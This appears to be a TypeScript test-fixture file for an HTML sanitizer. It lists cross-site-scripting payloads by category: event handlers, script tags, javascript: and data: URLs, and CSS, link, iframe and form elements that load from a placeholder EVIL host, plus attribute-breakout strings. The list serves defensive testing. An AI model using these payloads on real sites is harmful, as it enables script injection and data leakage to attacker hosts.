import { EVIL, PWN } from './marks.ts';

/**
 * What HTML's own documentation says runs a script or asks a server, a plain example of each, by what
 * it is. Each calls `PWN` or asks EVIL where nothing keeps it from that: a test sees either.
 */

/** Attributes that run a script when something happens. */
const HANDLERS = [
  `<p onclick="${PWN}">x</p>`,
  `<P ONCLICK="${PWN}">x</P>`,
  `<p onmouseover=${PWN}>x</p>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${PWN}">`,
  `<details open ontoggle="${PWN}"><summary>x</summary>y</details>`,
  `<input autofocus onfocus="${PWN}">`,
  `<p tabindex=0 autofocus onfocus="${PWN}">x</p>`,
  `<video src=x onerror="${PWN}"></video>`,
  `<svg onload="${PWN}"><text onclick="${PWN}">x</text></svg>`,
  `<math onclick="${PWN}"><mi>x</mi></math>`,
  `<body onload="${PWN}">`,
  `<x-element onclick="${PWN}">x</x-element>`,
];

const SCRIPTS = [
  `<script>${PWN}</script>`,
  `<SCRIPT>${PWN}</SCRIPT>`,
  `<script type=module>${PWN}</script>`,
  `<script src=${EVIL}/script></script>`,
  `<script type=importmap>{"imports":{"x":"${EVIL}/x.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/next"]}]}</script>`,
  `<svg width=300 height=300 role=img><script>${PWN}</script><text>x</text></svg>`,
];

/** Addresses that are scripts or documents themselves, or that no article leads to. */
const ADDRESSES = [
  `javascript:${PWN}`,
  `JavaScript:${PWN}`,
  ` javascript:${PWN}`,
  `vbscript:x`,
  `data:text/html,<script>parent.${PWN}</script>`,
  `blob:https://blog.example/1`,
  `file:///a`,
  `chrome-extension://x/reader.html`,
  `moz-extension://x/reader.html`,
];

const PLACES_OF_ADDRESSES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}" title="x"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<video src="${address}" poster="${address}"></video>`,
  (address) => `<map><area href="${address}"></map>`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<math href="${address}"><mi href="${address}">x</mi></math>`,
  (address) => `<svg width=300 height=300 role=img><a href="${address}"><text>x</text></a></svg>`,
  (address) => `<a data-card=true href="${address}"><h3>x</h3><p>y</p></a>`,
  (address) => `<a data-footnote-ref href="${address}">1</a>`,
];

const STYLES = [
  `<style>@import "${EVIL}/style.css";</style>`,
  `<style>*{background:url(${EVIL}/style)}</style>`,
  `<link rel=stylesheet href=${EVIL}/sheet>`,
  `<p style="background:url(${EVIL}/paragraph)">x</p>`,
  `<p style="position:fixed;inset:0;background:red">x</p>`,
  `<svg width=300 height=300 role=img><rect fill="url(${EVIL}/fill#x)" width=9 height=9 /></svg>`,
  `<svg width=300 height=300 role=img><style>@import '${EVIL}/drawing.css';</style></svg>`,
  `<pre><code><span class=line><span style="color:#fff;background:url(${EVIL}/code)">x</span></span></code></pre>`,
];

/** What asks a server by being there, or leads the whole page elsewhere. */
const REQUESTS = [
  `<link rel=prefetch href=${EVIL}/prefetch>`,
  `<link rel=preload as=image href=${EVIL}/preload>`,
  `<link rel=preconnect href=${EVIL}>`,
  `<link rel=icon href=${EVIL}/icon>`,
  `<link rel=manifest href=${EVIL}/manifest>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  `<base href=${EVIL}/base/><a href=x>x</a>`,
  `<base target=_top><a href=/x>x</a>`,
  `<iframe src=${EVIL}/frame></iframe>`,
  `<iframe srcdoc="<p>x</p>"></iframe>`,
  `<object data=${EVIL}/object></object>`,
  `<embed src=${EVIL}/embed>`,
  `<video src=${EVIL}/video poster=${EVIL}/poster autoplay></video>`,
  `<video><track default src=${EVIL}/track></video>`,
  `<audio src=${EVIL}/audio autoplay></audio>`,
  `<input type=image src=${EVIL}/input>`,
  `<table background=${EVIL}/table><tr><td background=${EVIL}/cell>x</td></tr></table>`,
  `<body background=${EVIL}/body>`,
  `<a href=${EVIL}/link ping=${EVIL}/ping>x</a>`,
  `<svg width=300 height=300 role=img><image href=${EVIL}/image width=9 height=9 /></svg>`,
  `<svg width=300 height=300 role=img><use href="${EVIL}/use.svg#x"/></svg>`,
];

const FORMS = [
  `<form action=${EVIL}/form><input name=x><button>x</button></form>`,
  `<button form=x formaction=${EVIL}/button>x</button>`,
  `<textarea name=x autofocus>x</textarea>`,
  `<select name=x><option>x</option></select>`,
  `<p contenteditable autofocus>x</p>`,
  `<p popover>x</p>`,
  `<dialog open>x</dialog>`,
];

/** All, by what they are. */
export const RULES: Readonly<Record<string, readonly string[]>> = {
  handlers: HANDLERS,
  scripts: SCRIPTS,
  addresses: PLACES_OF_ADDRESSES.flatMap((place) => ADDRESSES.map(place)),
  styles: STYLES,
  requests: REQUESTS,
  forms: FORMS,
};

/** What stands where a name or an address alone is expected. */
export const BARE: readonly string[] = [...ADDRESSES, `" onmouseover="${PWN}`, `' onfocus='${PWN}`];
